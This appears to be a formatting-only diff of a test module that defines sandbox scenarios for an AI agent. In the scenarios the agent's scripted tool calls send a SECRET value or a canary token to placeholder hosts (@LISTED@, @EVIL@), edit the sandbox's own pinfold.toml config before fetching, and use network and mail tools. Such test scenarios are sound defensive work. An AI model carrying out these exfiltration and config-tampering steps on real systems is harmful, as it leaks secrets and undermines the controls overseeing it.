@@ -58,10 +58,7 @@ _ASKED: tuple[tuple[Mode, Answers], ...] = (
 def scenarios() -> Iterator[Scenario]:
     for name, url in ADDRESSES.items():
         yield Scenario(
-            name=f"fetch with {name}",
-            kind="fetch",
-            steps=(*TURNED, call("fetch", url=url)),
-            opens=name in _OPENS,
+            name=f"fetch with {name}", kind="fetch", steps=(*TURNED, call("fetch", url=url)), opens=name in _OPENS
         )
     for mode, answers in _ASKED:
         yield Scenario(
@@ -90,20 +87,14 @@ def _from_code() -> Iterator[Scenario]:
         kind="fetch",
         steps=(
             *TURNED,
-            cell(
-                "from _pinfold_guest.calls import call\nprint(call('fetch', url='http://@LISTED@/' + SECRET))"
-            ),
+            cell("from _pinfold_guest.calls import call\nprint(call('fetch', url='http://@LISTED@/' + SECRET))"),
         ),
         opens=True,
     )
     yield Scenario(
         name="fetch after a page that was not found",
         kind="fetch",
-        steps=(
-            READS,
-            call("fetch", url="http://@LISTED@/gone"),
-            call("fetch", url="http://@LISTED@/@CANARY@"),
-        ),
+        steps=(READS, call("fetch", url="http://@LISTED@/gone"), call("fetch", url="http://@LISTED@/@CANARY@")),
         opens=True,
     )
     for tool in ("network", "ask_user", "send_mail", "http_request"):
@@ -161,12 +152,7 @@ def _files() -> Iterator[Scenario]:
     yield Scenario(
         name="patch pinfold.toml, then fetch",
         kind="files",
-        steps=(
-            *TURNED,
-            call("apply_patch", patch=patch),
-            "resume",
-            call("fetch", url="http://@EVIL@/@CANARY@"),
-        ),
+        steps=(*TURNED, call("apply_patch", patch=patch), "resume", call("fetch", url="http://@EVIL@/@CANARY@")),
     )
     yield Scenario(
         name="a hook of git, then a commit",
